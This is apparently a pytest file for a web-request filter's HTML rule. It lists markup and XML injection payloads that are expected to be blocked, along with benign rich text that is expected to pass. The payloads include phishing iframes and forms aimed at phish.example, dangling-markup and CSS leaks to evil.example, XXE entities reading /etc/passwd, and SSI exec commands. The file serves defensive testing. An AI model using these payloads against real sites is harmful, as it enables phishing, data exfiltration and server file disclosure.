"""Rule key HTML: markup and XML injection must block at Standard, ordinary rich text must pass.

The engine here holds only the HTML rules (with the default policy), so a benign case proves
that HTML stays quiet regardless of what other keys think of it, and every test runs on both
scanner twins.
"""

from __future__ import annotations

from urllib.parse import quote, quote_plus

import pytest

from airlock_filters import Request

from . import requests as build
from .requests import Place, blocked_keys, quote_all

KEY = "HTML"
HOST = "shop"


def query(value: str) -> Request:
    return build.query(value, encode=quote_all, host=HOST)


def form(value: str) -> Request:
    return build.form(
        value, "message", path="/forum/reply", encode=quote_plus, rest="&notify=1", host=HOST
    )


def json_body(value: str) -> Request:
    post = {"title": "Hello", "content": value, "status": "draft"}
    return build.json_body(post, path="/wp-json/wp/v2/posts", host=HOST)


def xml_body(value: str) -> Request:
    return build.xml_body(value, host=HOST)


def cookie(value: str) -> Request:
    return build.cookie(value, "sid=abc; note=", encode=quote, host=HOST)


def header(value: str) -> Request:
    return build.header("X-Display-Name", value, host=HOST)


ATTACKS: list[tuple[Place, str]] = [
    # frames, forms, page-level elements
    (query, '<iframe src="//phish.example/login" width=100%></iframe>'),
    (form, "<frameset cols=100%><frame src=//phish.example></frameset>"),
    (json_body, '<form action="https://phish.example/steal" method="post">'),
    (query, "<input name=password type=password>"),
    (form, "<button formaction=//phish.example>Go</button>"),
    (query, '<meta http-equiv="refresh" content="0;url=//phish.example">'),
    (cookie, "<meta charset=utf-7>"),
    (header, '<base href="//evil.example/">'),
    (query, '<link rel=stylesheet href="//evil.example/x.css">'),
    (json_body, "<style>input[value^=a]{background:url(//e.example/a)}</style>"),
    (query, "@import url(//evil.example/x.css);"),
    (query, "<textarea>"),
    (form, "</title><h1>Hacked</h1>"),
    (query, "<plaintext>"),
    # comments and conditional comments
    (query, "--><h1>defaced</h1>"),
    (form, "'-->"),
    (json_body, "<!--[if IE]><p>old browser</p><![endif]-->"),
    (query, '<!--#exec cmd="ls -l" -->'),
    (form, '<!--#include virtual="/etc/passwd"-->'),
    # attribute breakout into new markup
    (query, '"><h1>injected</h1>'),
    (query, "x'><marquee>"),
    # dangling markup: an unclosed URL attribute sends the rest of the page away
    (query, "<img src='https://evil.example/log?"),
    # XML declarations and inclusion
    (
        xml_body,
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    ),
    (xml_body, '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>'),
    (form, '<!ENTITY % ext SYSTEM "http://evil.example/e.dtd">'),
    (
        xml_body,
        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/'
        'hosts" parse="text"/></r>',
    ),
    (
        xml_body,
        '<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="'
        'urn:x http://evil.example/x.xsd"/>',
    ),
    # entity-encoded markup inside an XML attribute
    (xml_body, '<r><a v="&lt;iframe src=//phish.example&gt;"/></r>'),
    (xml_body, '<r><a v="&lt;meta http-equiv=&quot;refresh&quot; content=0&gt;"/></r>'),
    # filter evasion
    (query, "<IFRAME\tSRC=//phish.example>"),
    (query, "\uff1cform action=//phish.example\uff1e"),
]

BENIGN: list[tuple[Place, str]] = [
    (json_body, "<p>Hello <strong>world</strong></p><h2>Sub</h2><hr><ul><li>a</li></ul>"),
    (
        json_body,
        '<p><a href="https://example.com/x" rel="noopener">link</a></p><figure><img '
        'src="https://cdn.example.com/a.jpg" alt=""><figcaption>Cap</figcaption></figure>',
    ),
    (form, '<p style="text-align:center">centred <span style="color:#1a73e8">blue</span></p>'),
    (form, "<blockquote>The script font looks lovely</blockquote><code>SELECT 1</code>"),
    (json_body, "<!-- wp:paragraph --><p>Gutenberg block</p><!-- /wp:paragraph -->"),
    (query, "Go to Settings --> Privacy --> Cookies"),
    (query, "I <3 you"),
    (query, "a < b > c"),
    (query, "Paste your <link> here"),
    (query, "Hello <name>, welcome!"),
    (query, "The <title> element"),
    (query, "Learn about the <form> element"),
    (query, "List<Object> items"),
    (form, "# Title\n\n**bold** and [link](https://example.com) ![](https://example.com/i.png)"),
    (query, "style guide"),
    (query, "@media print"),
    (query, 'He said "hi" and left'),
    (xml_body, '<?xml version="1.0"?><order xmlns="urn:shop"><id>5</id></order>'),
    (
        xml_body,
        '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
        "<soap:Body><GetPrice><Item>Apple</Item></GetPrice></soap:Body></soap:Envelope>",
    ),
    (cookie, "entity=Acme SYSTEM"),
]


@pytest.mark.parametrize(("place", "payload"), ATTACKS)
def test_attack_blocks_at_standard(implementation: str, place: Place, payload: str) -> None:
    assert KEY in blocked_keys(KEY, "Standard", implementation, place(payload))


@pytest.mark.parametrize(("place", "payload"), BENIGN)
def test_benign_passes_at_standard(implementation: str, place: Place, payload: str) -> None:
    assert blocked_keys(KEY, "Standard", implementation, place(payload)) == set()


@pytest.mark.parametrize(
    "payload",
    ['<!--#exec cmd="id"-->', '<!ENTITY x SYSTEM "file:///etc/passwd">',
     '<meta http-equiv="refresh" content="0;url=//evil.example">'],
)  # fmt: skip
def test_basic_catches_the_unmistakable(implementation: str, payload: str) -> None:
    assert KEY in blocked_keys(KEY, "Basic", implementation, query(payload))


def test_frames_need_standard(implementation: str) -> None:
    request = query("<iframe src=//phish.example>")
    assert blocked_keys(KEY, "Basic", implementation, request) == set()
    assert KEY in blocked_keys(KEY, "Standard", implementation, request)


@pytest.mark.parametrize(
    "payload", ["x--> y", "<dialog open>", "<marquee>news</marquee>", "text<!--"]
)
def test_strict_only(implementation: str, payload: str) -> None:
    assert blocked_keys(KEY, "Standard", implementation, form(payload)) == set()
    assert KEY in blocked_keys(KEY, "Strict", implementation, form(payload))
